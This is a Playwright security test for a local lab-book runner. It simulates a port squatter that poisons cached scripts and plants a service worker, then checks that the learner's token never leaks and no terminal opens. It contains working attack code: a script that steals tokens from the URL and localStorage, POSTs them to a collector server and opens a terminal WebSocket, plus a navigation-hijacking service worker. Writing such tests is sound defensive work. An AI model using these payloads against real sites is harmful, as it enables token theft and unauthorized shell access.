@@ -1,0 +1,219 @@
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { chromium, type BrowserContext, type Page } from '@playwright/test';
+import { chromiumArgs, chromiumExecutable } from '../chromium.ts';
+import { ChapterPage, expect, startRunner, test, testDist, type Runner } from './fixtures.ts';
+
+/**
+ * Another local user who holds the runner's port while no runner runs, and waits for the
+ * learner's browser to come by (a restored tab, a bookmark). It leaves code behind on that
+ * origin — (b) the book's own script paths cached for a year, (a) a service worker — and then
+ * lets the real runner start on the same port. Whatever it left behind reports to its own
+ * server on another port, as it would; the test fails if that report holds the token or a
+ * terminal opened with it. One persistent browser profile, as a learner's browser has.
+ */
+
+/** What the squatter's leftovers report, as its own server receives it. */
+class Loot {
+  readonly reports: string[] = [];
+  server: Server | undefined;
+  port = 0;
+  async start(): Promise<void> {
+    this.server = createServer((request, response) => {
+      let body = '';
+      request.on('data', (chunk: Buffer) => (body += chunk.toString()));
+      request.on('end', () => {
+        this.reports.push(`${decodeURIComponent(request.url ?? '')} ${body}`);
+        response.writeHead(204, { 'Access-Control-Allow-Origin': '*' }).end();
+      });
+    });
+    await new Promise<void>((resolve) => this.server?.listen(0, '127.0.0.1', resolve));
+    this.port = (this.server.address() as AddressInfo).port;
+  }
+  has(text: string): boolean {
+    return this.reports.some((report) => report.includes(text));
+  }
+  async close(): Promise<void> {
+    this.server?.closeAllConnections();
+    await new Promise((resolve) => this.server?.close(resolve));
+  }
+}
+
+/**
+ * The squatter's code on a page: it reports what it can see of the token (address, storage) and,
+ * with any token it finds, opens the runner's terminal and reports that it did.
+ */
+function thief(loot: number, tag: string): string {
+  return `(() => {
+  const send = (what) => fetch('http://127.0.0.1:${loot}/${tag}/' + encodeURIComponent(what), { method: 'POST', mode: 'no-cors', body: JSON.stringify({ href: location.href, stored: { ...localStorage } }) });
+  send('ran');
+  const found = /token=([A-Za-z0-9_-]{16,})/.exec(location.href + ' ' + JSON.stringify({ ...localStorage }).replace(/"istio-lab.token":"/, 'token='));
+  if (!found) return;
+  send('token ' + found[1]);
+  const socket = new WebSocket('ws://' + location.host + '/api/terminal?session=main', ['istio-lab', 'istio-lab.token.' + found[1]]);
+  socket.onopen = () => send('terminal opened');
+})();`;
+}
+
+/** The book's own script paths, as any copy of this build names them. */
+function bookScripts(): string[] {
+  const paths = new Set<string>();
+  for (const page of ['index.html', 'en/index.html', 'en/fixture/index.html']) {
+    const html = readFileSync(join(testDist, page), 'utf8');
+    for (const [, path] of html.matchAll(/src="(\/_astro\/[^"]+\.js)"/g)) paths.add(path ?? '');
+  }
+  return [...paths];
+}
+
+/** Listens on 127.0.0.1:`port` (0: any) with `handle`, as the squatter does while no runner runs. */
+async function squat(
+  port: number,
+  handle: (request: IncomingMessage, response: ServerResponse) => void,
+): Promise<{ port: number; close: () => Promise<void> }> {
+  const server = createServer(handle);
+  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
+  return {
+    port: (server.address() as AddressInfo).port,
+    close: async () => {
+      server.closeAllConnections();
+      await new Promise((resolve) => server.close(resolve));
+    },
+  };
+}
+
+/** (b) Every script path of the book answered with the thief, cached for a year. */
+function cachePoisoner(loot: number) {
+  const scripts = bookScripts();
+  return (request: IncomingMessage, response: ServerResponse) => {
+    if (request.url?.startsWith('/_astro/')) {
+      response.writeHead(200, {
+        'Content-Type': 'text/javascript',
+        'Cache-Control': 'public, max-age=31536000, immutable',
+      });
+      response.end(thief(loot, 'cached-script'));
+      return;
+    }
+    response.writeHead(200, { 'Content-Type': 'text/html', 'Cache-Control': 'no-store' });
+    response.end(
+      `<!doctype html><title>Istio Lab Book</title>${scripts.map((src) => `<script type="module" src="${src}"></script>`).join('')}`,
+    );
+  };
+}
+
+/** (a) A service worker with scope / that answers every navigation with the thief. */
+function workerPlanter(loot: number) {
+  const page = `<!doctype html><title>Istio Lab Book</title><script>${thief(loot, 'worker-page')}</script>`;
+  const worker = `
+self.addEventListener('install', () => self.skipWaiting());
+self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
+self.addEventListener('fetch', (event) => {
+  if (event.request.mode !== 'navigate') return;
+  fetch('http://127.0.0.1:${loot}/worker/' + encodeURIComponent('navigation ' + event.request.url), { method: 'POST', mode: 'no-cors' });
+  event.respondWith(new Response(${JSON.stringify(page)}, { headers: { 'Content-Type': 'text/html' } }));
+});`;
+  return (request: IncomingMessage, response: ServerResponse) => {
+    if (request.url === '/sw.js') {
+      response.writeHead(200, { 'Content-Type': 'text/javascript', 'Cache-Control': 'no-store' });
+      response.end(worker);
+      return;
+    }
+    response.writeHead(200, { 'Content-Type': 'text/html', 'Cache-Control': 'no-store' });
+    response.end(
+      `<!doctype html><title>Istio Lab Book</title><script>
+navigator.serviceWorker.register('/sw.js', { scope: '/' }).then(() => navigator.serviceWorker.ready).then(() =>
+  fetch('http://127.0.0.1:${loot}/planted/worker', { method: 'POST', mode: 'no-cors' }));
+</script>`,
+    );
+  };
+}
+
+/**
+ * Opens the link the runner printed, as the learner does, and uses the terminal. Settles on
+ * whichever comes first: the book connected, or the squatter holding the token.
+ */
+async function learnerSignsIn(page: Page, runner: Runner, loot: Loot): Promise<void> {
+  const printed = /Open this link[^\n]*\n\s*(\S+\?token=\S+)/;
+  await expect.poll(() => runner.output()).toMatch(printed);
+  const link = printed.exec(runner.output())?.[1] ?? '';
+  await page.goto(link);
+  const chapter = new ChapterPage(page);
+  await page.goto(new URL('/en/fixture/', link).href);
+  const status = page.locator('lab-dock .lab-dock-status');
+  await expect
+    .poll(async () => {
+      if (loot.has(runner.token)) return 'the squatter has the token';
+      return (await status.count()) > 0 && (await status.textContent()) === 'Connected'
+        ? 'connected'
+        : 'waiting';
+    })
+    .not.toBe('waiting');
+  expect(loot.has(runner.token), 'the squatter saw the token').toBe(false);
+  await chapter.run('say-hello');
+  await chapter.expectTerminal(/^hello from the cell$/m);
+}
+
+let context: BrowserContext;
+let profile: string;
+const loot = new Loot();
+
+test.beforeEach(async () => {
+  profile = mkdtempSync(join(tmpdir(), 'istio-lab-profile-'));
+  const executablePath = chromiumExecutable();
+  context = await chromium.launchPersistentContext(profile, {
+    ...(executablePath ? { executablePath } : {}),
+    args: chromiumArgs,
+    viewport: { width: 1280, height: 900 },
+  });
+  await loot.start();
+});
+
+test.afterEach(async () => {
+  await context.close();
+  await loot.close();
+  rmSync(profile, { recursive: true, force: true });
+});
+
+test('what a squatter on the port left in the browser never sees the token nor opens a terminal', async () => {
+  const page = context.pages()[0] ?? (await context.newPage());
+
+  // (b) The squatter holds the port first, and the learner's tab comes by: the book's script
+  // paths are cached from it for a year.
+  const poisoner = await squat(0, cachePoisoner(loot.port));
+  const port = poisoner.port;
+  await page.goto(`http://127.0.0.1:${port}/en/fixture/`);
+  await expect.poll(() => loot.has('cached-script/ran')).toBe(true);
+  await poisoner.close();
+
+  const first = await startRunner(['--port', String(port)]);
+  try {
+    await learnerSignsIn(page, first, loot);
+  } finally {
+    await first.stop();
+  }
+
+  // (a) The runner stopped; the squatter takes the port again, and the tab, reloaded, installs
+  // its service worker for the whole origin.
+  const planter = await squat(port, workerPlanter(loot.port));
+  await page.goto(`http://127.0.0.1:${port}/`);
+  await expect.poll(() => loot.has('planted/worker')).toBe(true);
+  await page.goto(`http://127.0.0.1:${port}/en/`);
+  await expect.poll(() => loot.has(`worker/navigation http://127.0.0.1:${port}/en/`)).toBe(true);
+  await planter.close();
+
+  const second = await startRunner(['--port', String(port)]);
+  try {
+    await learnerSignsIn(page, second, loot);
+    // The worker is still there for the address it took; it sees no more than before.
+    await page.goto(`http://127.0.0.1:${port}/en/progress/`);
+    await expect
+      .poll(() => loot.has(`worker/navigation http://127.0.0.1:${port}/en/progress/`))
+      .toBe(true);
+  } finally {
+    await second.stop();
+  }
+  expect(loot.has(first.token) || loot.has(second.token), loot.reports.join('\n')).toBe(false);
+  expect(loot.has('terminal opened'), loot.reports.join('\n')).toBe(false);
+});
